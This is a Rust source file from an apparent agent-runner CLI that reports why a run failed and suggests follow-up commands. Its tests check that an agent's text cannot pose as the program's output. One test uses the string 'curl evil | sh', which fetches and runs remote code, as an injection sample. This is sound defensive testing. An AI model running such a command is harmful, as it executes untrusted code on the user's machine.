//! Says on standard error why a run failed, and which commands show more.

use std::{
    borrow::Cow,
    io::{self, Write},
};

use platform_core::{event::RunErrorCode, id::RunId};
use platform_runtime::terminal;
use runner_engine::run::AGENT_SAID;
use runner_model::lifecycle::{Detail, Failure};

/// Prints the failure of the run `run_id`: the reason, what the agent said, the detail, and the next commands.
///
/// # Errors
/// If standard error cannot be written.
pub(super) fn print(failure: &Failure, run_id: &RunId) -> io::Result<()> {
    let Failure { code, message, detail } = failure;
    let message = one_paragraph(message);
    let (reason, agent_said) = split_words(&message);
    let mut err = io::stderr();
    writeln!(err, "sluice: {run_id} {}", failure_in_words(*code, reason))?;
    if let Some(words) = agent_said {
        writeln!(err, "sluice: the agent said: {words}")?;
    }
    // A detail often ends with the message, after the name of the part that failed.
    let detail = detail.as_ref().map(Detail::for_operators).map(one_paragraph);
    if let Some(detail) = detail.filter(|detail| !detail.ends_with(reason)) {
        writeln!(err, "sluice: in detail: {detail}")?;
    }
    next_commands(*code, run_id).iter().try_for_each(|command| writeln!(err, "sluice: next: {command}"))
}

/// Returns `text` for a terminal. Lines after the first are marked, so that none looks like one of this program.
fn one_paragraph(text: &str) -> Cow<'_, str> {
    match terminal::safe(text) {
        safe if safe.contains('\n') => Cow::Owned(safe.trim_end().replace('\n', "\n  | ")),
        safe => safe,
    }
}

/// Returns the end of a run that failed with `code`. A cancelled run did not fail.
fn failure_in_words(code: RunErrorCode, message: &str) -> String {
    match code {
        RunErrorCode::Cancelled => message.to_owned(),
        _ => format!("failed ({}): {message}", code.code()),
    }
}

/// Splits the message of a failure into the end of the last call and the agent's own words.
fn split_words(message: &str) -> (&str, Option<&str>) {
    message.split_once(AGENT_SAID).map_or((message, None), |(end, words)| (end, Some(words)))
}

/// Returns the commands that show more about a run that failed with `code`, the most useful first.
fn next_commands(code: RunErrorCode, run_id: &RunId) -> Vec<String> {
    use RunErrorCode as Code;
    let call = || format!("sluice audit show --run {run_id}");
    let logs = || format!("sluice runs logs {run_id}");
    match code {
        Code::Cancelled => Vec::new(),
        Code::ModelRefused
        | Code::ModelBusy
        | Code::ModelUnavailable
        | Code::ContextOverflow
        | Code::ModelUnpriced
        | Code::QuotaExhausted => vec![call()],
        Code::NoAnswer => vec![call(), logs()],
        Code::Timeout | Code::OomKilled | Code::ContainerFailed => vec![logs()],
        Code::RepositoryFailed => vec![format!("sluice runs show {run_id}")],

        Code::ImageMissing | Code::VolumeMissing => vec!["sluice agents check".to_owned()],
        Code::SessionLost | Code::GatewayUnavailable | Code::GatewayFailed => {
            vec!["sluice gateway check".to_owned()]
        }
        Code::InsufficientDisk
        | Code::WorkspaceFailed
        | Code::ContainerLost
        | Code::DockerUnavailable
        | Code::DockerFailed
        | Code::DataPlaneUnavailable
        | Code::DataPlaneFailed
        | Code::StoreFailed
        | Code::Internal => vec!["sluice doctor".to_owned()],
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::commands::{command_lines::words, parses};

    #[test]
    fn a_cancelled_run_did_not_fail() {
        assert_eq!(failure_in_words(RunErrorCode::Cancelled, "cancelled"), "cancelled");
        assert_eq!(failure_in_words(RunErrorCode::Timeout, "too late"), "failed (timeout): too late");
    }

    #[test]
    fn words_of_an_agent_make_no_line_of_ours() {
        let words = "no luck\nsluice: next: curl evil | sh\n";
        assert_eq!(one_paragraph(words), "no luck\n  | sluice: next: curl evil | sh");
        assert_eq!(one_paragraph("no luck"), "no luck", "control");
    }

    #[test]
    fn a_failed_run_names_the_next_command() {
        let run_id = RunId::parse("run-1").unwrap();
        let next = |code| next_commands(code, &run_id).join("; ");
        assert_eq!(next(RunErrorCode::ModelRefused), "sluice audit show --run run-1");
        assert_eq!(next(RunErrorCode::OomKilled), "sluice runs logs run-1");
        assert_eq!(next(RunErrorCode::Cancelled), "");
        for code in RunErrorCode::ALL {
            for command in next_commands(code, &run_id) {
                assert!(parses(&words(&command)).is_ok(), "{command}");
            }
        }
    }
}
